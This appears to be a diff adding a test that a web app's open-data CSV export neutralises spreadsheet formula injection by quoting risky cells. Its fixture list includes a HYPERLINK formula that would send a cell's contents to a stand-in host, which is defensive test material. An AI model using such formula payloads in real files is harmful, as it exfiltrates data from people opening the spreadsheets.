@@ -43,6 +43,27 @@ def test_csv_has_design_field_names_and_only_published_rows(client, data):
     assert by_title["Replika Dari Rahasia"]["replicates"] == ""
 
 
+FORMULAS = ['=HYPERLINK("http://contoh.test/?d="&A1,"klik")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(client, make):
+    make.cycle(year=2026)
+    for title in FORMULAS:
+        fb.published(title=title, contact="-")
+    fb.published(title="Judul biasa", contact="0335-111")
+    db.session.commit()
+    response = client.get("/open-data/innovations.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    assert {row["title"] for row in rows} == {"'" + title for title in FORMULAS} | {"Judul biasa"}
+    assert {row["contact"] for row in rows} == {"'-", "0335-111"}
+    assert all(row["votes"] == "0" and row["year"] == "2026" and row["id"].isdigit() for row in rows)  # numbers stay
+    # The JSON is data, not a spreadsheet: its titles are as typed.
+    titles = {item["title"] for item in client.get("/open-data/innovations.json").get_json()["innovations"]}
+    assert titles == set(FORMULAS) | {"Judul biasa"}
+    assert "diberi tanda petik tunggal" in client.get("/open-data").get_data(as_text=True)  # the dictionary says so
+
+
 def test_json_matches_csv(client, data):
     document = json.loads(client.get("/open-data/innovations.json").get_data(as_text=True))
     assert document["count"] == 3 and document["fields"] == list(OPEN_DATA_FIELDS)
